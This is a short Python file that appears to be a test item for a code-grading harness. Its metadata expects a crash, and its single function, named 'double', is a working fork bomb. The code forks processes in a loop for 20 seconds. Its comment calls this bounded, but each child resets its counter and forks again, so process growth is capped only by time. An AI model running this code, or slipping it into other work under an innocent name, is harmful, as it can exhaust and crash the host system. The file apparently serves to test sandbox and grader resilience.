# A fork bomb.
# honest: all
# scores: double 0, rest full
# status: graded | crashed
# limits: seconds_cell 5
# plain: would harm the machine
# %% gap double
import os
import time


def double(x):
    until = time.time() + 20  # bounded, should a sandbox fail
    made = 0
    while time.time() < until and made < 2000:
        try:
            if os.fork() == 0:
                made = 0
            else:
                made += 1
        except OSError:
            time.sleep(0.01)
    os._exit(0)
